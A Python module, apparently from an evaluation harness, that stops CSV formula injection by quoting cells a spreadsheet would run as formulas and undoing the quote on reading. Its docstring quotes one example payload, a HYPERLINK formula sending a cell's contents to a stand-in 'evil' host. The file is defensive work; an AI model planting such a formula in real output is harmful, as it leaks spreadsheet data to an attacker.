"""CSV cells that a spreadsheet shows as text, never runs as a formula.

The result CSVs are opened in spreadsheets, and a cell that starts with `=`, `+`, `-` or `@`
(or a tab or carriage return) is read there as a formula: a model's answer or a question's tag
`=HYPERLINK("http://evil/?"&A1, "click")` would run. OWASP's rule is to prefix such a cell with
a single quote, which spreadsheets take as "this is text" and do not show. Plain numbers
(`-3`, `+0.5e3`) are left alone: they are no formula and are what the column means.

The harness reads its own CSVs back (reruns, the results store), so the prefix is undone on
reading (`raw_frame`); a text that itself starts with quotes before such a character gets one
quote more on writing, so reading gives back exactly what was written. The Parquet store keeps
the raw values.
"""

from __future__ import annotations

import re

import pandas as pd

_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(text: str) -> str:
    """`text` as a CSV cell: a single quote in front when a spreadsheet would read a formula."""
    if _FORMULA.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def raw_cell(text: str) -> str:
    """The text a `spreadsheet_cell` was made from."""
    return text[1:] if _QUOTED.match(text) and not _NUMBER.fullmatch(text[1:]) else text


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are `spreadsheet_cell`s (columns with none to change
    are left as they are, checked in one vectorised pass each)."""
    return _map_text(frame, _FORMULA, spreadsheet_cell)


def raw_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` as read from a CSV written with `spreadsheet_frame`, with the raw texts back."""
    return _map_text(frame, _QUOTED, raw_cell)


def _map_text(frame: pd.DataFrame, marker: re.Pattern[str], apply) -> pd.DataFrame:
    changed = frame
    for column in frame.columns:
        values = frame[column]
        if not (values.dtype == object or pd.api.types.is_string_dtype(values)):
            continue
        hits = values.map(lambda v: isinstance(v, str) and marker.match(v) is not None)
        if not hits.any():
            continue
        if changed is frame:
            changed = frame.copy()
        changed.loc[hits, column] = values[hits].map(apply)
    return changed
